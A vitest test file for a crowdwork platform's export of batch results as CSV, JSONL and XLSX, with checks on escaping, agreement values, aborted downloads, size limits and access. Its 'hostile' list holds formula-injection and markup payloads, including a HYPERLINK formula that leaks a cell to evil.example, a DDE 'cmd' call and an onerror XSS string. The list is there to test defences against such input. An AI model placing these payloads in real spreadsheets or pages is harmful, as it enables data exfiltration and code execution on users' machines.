import { type Cell, uuidOf } from '@manyhands/contract';
import papaparse from 'papaparse';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvWriter } from '../../tables/csv-writer.ts';
import { answerNext, openProductBatch } from '../../testing/product-batches.ts';
import { openWorld, type Somebody, type TestWorker, type World } from '../../testing/world.ts';

let world: World;
let asha: Somebody;
let ravi: TestWorker;
let sita: TestWorker;
beforeAll(async () => {
  world = await openWorld();
  asha = await world.owner('Asha');
  ravi = await world.worker(asha, 'Ravi');
  sita = await world.worker(asha, 'Sita');
});
afterAll(() => world?.close());

type Query = Parameters<Somebody['hands']['results']['export']>[0];
const textOf = async (query: Query) => (await asha.hands.results.export(query)).text();
const csvOf = async (query: Query) =>
  papaparse.parse<Record<string, string>>(await textOf(query), { header: true, skipEmptyLines: true }).data;
const linesOf = async (query: Query) =>
  (await textOf({ ...query, format: 'jsonl' }))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, Cell>);

/** What people paste: formulas, separators, markup, other scripts, the characters that part lines and columns inside. */
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '<img src=x onerror=alert(1)>',
  'a,b;"c"\nd\re',
  'नीला कुर्ता',
  '\u2028line',
  '\\.',
  "'",
  '\u0001\u0002',
  '-12.5',
  'null',
  '𝒦\ud83d\ude00',
];

describe('results as a file', () => {
  test('every cell comes back as it went in, in every format; formulas are text', async () => {
    const { batch } = await openProductBatch(
      asha,
      hostile.map((title, i) => ({ title, price: i, note: `n${i}` })),
    );
    for (const title of hostile)
      await answerNext(ravi, batch, {
        match: 'same',
        brand: title.replace(/\p{Cc}/gu, ' ').trim() || 'x',
        colours: ['red', 'blue'],
      });
    const { items } = await asha.hands.decisions.queue({ id: batch });
    await asha.hands.decisions.acceptMany({ id: batch, assignments: items.map((review) => review.id) });

    const lines = await linesOf({ id: batch });
    expect(lines.map((line) => line.title)).toEqual(hostile);
    expect(lines[0]).toMatchObject({
      number: 1,
      price: 0,
      note: 'n0',
      match: 'same',
      colours: ['red', 'blue'],
      match_agreement: 1,
      answers: 1,
      state: 'done',
    });
    expect(lines[0]?.decided_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);

    const csv = await csvOf({ id: batch });
    expect(csv).toHaveLength(hostile.length);
    // The database writes this file; the writer of all other files would have written the same.
    const cells = lines.map((line) =>
      Object.values(line).map((cell) => (Array.isArray(cell) ? cell.join('; ') : cell)),
    );
    const writer = csvWriter(Object.keys(lines[0]!));
    expect(csv).toEqual(
      papaparse.parse(writer.header() + writer.rows(cells), { header: true, skipEmptyLines: true }).data,
    );
    for (const [i, title] of hostile.entries()) {
      const cell = csv[i]!.title!;
      expect([title, `'${title}`]).toContain(cell);
      expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d)/.test(cell)).toBe(false);
    }
    expect(csv[0]).toMatchObject({ number: '1', colours: 'red; blue', brand_agreement: '1', state: 'done' });

    const sheet = await readXlsxFile(
      Buffer.from(await (await asha.hands.results.export({ id: batch, format: 'xlsx' })).arrayBuffer()),
      { trim: false } as never,
    );
    const table = (Array.isArray(sheet[0]) ? sheet : (sheet[0] as { data: Cell[][] }).data) as unknown as Cell[][];
    const column = table[0]!.indexOf('title');
    expect(table).toHaveLength(hostile.length + 1);
    expect(table[1]![column]).toBe(hostile[0]);
    expect(table[8]![column]).toBe('नीला कुर्ता');
  });

  test('items without a result are there too, with their state; ties have no value but an agreement', async () => {
    const { batch, items } = await openProductBatch(
      asha,
      [{ title: 'tie' }, { title: 'half' }, { title: 'open' }, { title: 'cancelled' }],
      { overlap: 2 },
    );
    const tie = [await answerNext(ravi, batch, { match: 'same' }), await answerNext(sita, batch, { match: 'other' })];
    await asha.hands.decisions.acceptMany({ id: batch, assignments: tie });
    await answerNext(ravi, batch, { match: 'same' });
    await asha.hands.items.cancel({ id: batch, items: [items[3]!] });
    expect(
      (await linesOf({ id: batch })).map(({ title, match, match_agreement, answers, state }) => ({
        title,
        match,
        match_agreement,
        answers,
        state,
      })),
    ).toEqual([
      { title: 'tie', match: null, match_agreement: 0.5, answers: 2, state: 'done' },
      { title: 'half', match: null, match_agreement: null, answers: 0, state: 'answered' },
      { title: 'open', match: null, match_agreement: null, answers: 0, state: 'open' },
      { title: 'cancelled', match: null, match_agreement: null, answers: 0, state: 'cancelled' },
    ]);
  });

  test('one row per answer: who by a pseudonym, when, how long, and what was decided', async () => {
    const { batch } = await openProductBatch(asha, [{ title: 'Kurta' }], { overlap: 2 });
    const first = await answerNext(ravi, batch, { match: 'same', brand: 'Biba' });
    const second = await answerNext(sita, batch, { match: 'other' });
    await asha.hands.decisions.accept({ id: first });
    await asha.hands.decisions.reject({ id: second, clause: 2, evidence: '=cmd' });
    const rows = await linesOf({ id: batch, rows: 'answers' });
    expect(rows).toMatchObject([
      {
        title: 'Kurta',
        match: 'same',
        brand: 'Biba',
        worker: ravi.worker,
        state: 'accepted',
        decision: 'accepted',
        match_agreement: 1,
        clause: null,
      },
      {
        title: 'Kurta',
        match: 'other',
        worker: sita.worker,
        state: 'rejected',
        decision: 'rejected',
        clause: 'Compare both titles.',
        evidence: '=cmd',
      },
    ]);
    expect(Object.values(rows[0]!)).not.toContain('Ravi');
    for (const row of rows) expect(Number(row.seconds)).toBeGreaterThanOrEqual(0);
    expect((await csvOf({ id: batch, rows: 'answers' }))[1]?.evidence).toBe("'=cmd");
  });

  test('a decision taken back is not in it', async () => {
    const { batch } = await openProductBatch(asha, [{ title: 'Kurta' }]);
    const id = await answerNext(ravi, batch, { match: 'same' });
    await asha.hands.decisions.accept({ id });
    await asha.hands.decisions.undo({ id });
    expect(await linesOf({ id: batch, rows: 'answers' })).toMatchObject([
      { state: 'submitted', decision: null, decided_at: null },
    ]);
  });

  test('many slices make one file: every item once, in the order given', async () => {
    const count = 2300;
    const { batch } = await openProductBatch(asha, []).catch(() => ({ batch: '' }));
    expect(batch).toBe('');
    const template = await asha.hands.templates.create({
      name: 'Many',
      definition: {
        title: 'Many',
        brief: {
          examples: [{ kind: 'good' as const, answer: 'As asked.', reason: 'It is all there.' }],
          done: 'Done.',
        },
        columns: [{ key: 'title', label: 'Title' }],
        form: [{ kind: 'text', key: 'title', label: 'Better title' }],
      },
    });
    const many = await asha.hands.batches.create({ template: template.id, title: 'Viele Stücke; "neu"' });
    for (let from = 0; from < count; from += 1000)
      await asha.hands.items.add({
        id: many.id,
        rows: Array.from({ length: Math.min(1000, count - from) }, (_, i) => ({
          input: { title: `row ${from + i} ${'x'.repeat((from + i) % 300)}` },
          externalId: `e${from + i}`,
        })),
      });
    const response = await asha.hands.results.export({ id: many.id });
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="Viele Stu_cke; neu results.csv"; filename*=UTF-8''Viele%20St%C3%BCcke%3B%20neu%20results.csv`,
    );
    const { data, meta } = papaparse.parse<Record<string, string>>(await response.text(), {
      header: true,
      skipEmptyLines: true,
    });
    // The input column and the field have the same key; their columns are told apart.
    expect(meta.fields).toEqual([
      'number',
      'external_id',
      'title',
      'title_answer',
      'title_agreement',
      'answers',
      'state',
      'decided_at',
    ]);
    expect(data.map((row) => row.number)).toEqual(Array.from({ length: count }, (_, i) => String(i + 1)));
    expect(data.at(-1)).toMatchObject({ external_id: `e${count - 1}`, state: 'open' });
  });

  test('a download that is given up leaves nothing running', async () => {
    const { batch } = await openProductBatch(
      asha,
      hostile.map((title) => ({ title: title + 'x'.repeat(40_000) })),
    );
    for (let i = 0; i < 12; i++) {
      const stop = new AbortController();
      const response = await asha.hands.results.export({ id: batch }, { signal: stop.signal });
      stop.abort();
      await response.text().catch(() => {});
    }
    // More than may run at once were begun: had one stayed, this would be refused.
    expect(await csvOf({ id: batch })).toHaveLength(hostile.length);
    const { rows } = await world.database.pool.query(
      `select count(*)::int as n from pg_stat_activity where datname = current_database() and query like 'copy (%' and state <> 'idle'`,
    );
    expect(rows[0].n).toBe(0);
  });

  test('more than a workbook holds is refused before the first byte', async () => {
    const { batch, items } = await openProductBatch(asha, [{ title: 'Kurta' }]);
    // A million items by hand would take minutes. In slices, since one long transaction would hold up what other tests wait for.
    const [found] = (
      await world.database.pool.query('select workspace_id, batch_id from item where item_id = $1', [
        uuidOf('itm', items[0]!),
      ])
    ).rows;
    for (let from = 1; from <= 1_048_576; from += 65_536)
      await world.database.pool.query(
        `insert into item (workspace_id, batch_id, item_id, lane_id, seq, number, input)
         select $1, $2, gen_random_uuid(), $2, n, n, '{}' from generate_series($3::int + 1, $3::int + 65536) n`,
        [found.workspace_id, found.batch_id, from],
      );
    await world.database.pool.query('update batch set items_next = 1048578 where batch_id = $1', [found.batch_id]);
    await expect(asha.hands.results.export({ id: batch, format: 'xlsx' })).rejects.toMatchObject({
      code: 'export.too-large',
      status: 422,
    });
  });

  test('strangers, workers and other workspaces get nothing', async () => {
    const { batch } = await openProductBatch(asha, [{ title: 'Kurta' }]);
    const other = await world.owner('Biba');
    await expect(ravi.hands.results.export({ id: batch })).rejects.toMatchObject({ status: 403 });
    await expect(other.hands.results.export({ id: batch })).rejects.toMatchObject({ code: 'not-found' });
    await expect(other.hands.results.summary({ id: batch })).rejects.toMatchObject({ code: 'not-found' });
    await expect(world.client({}).results.export({ id: batch })).rejects.toMatchObject({ code: 'auth.needed' });
  });
});
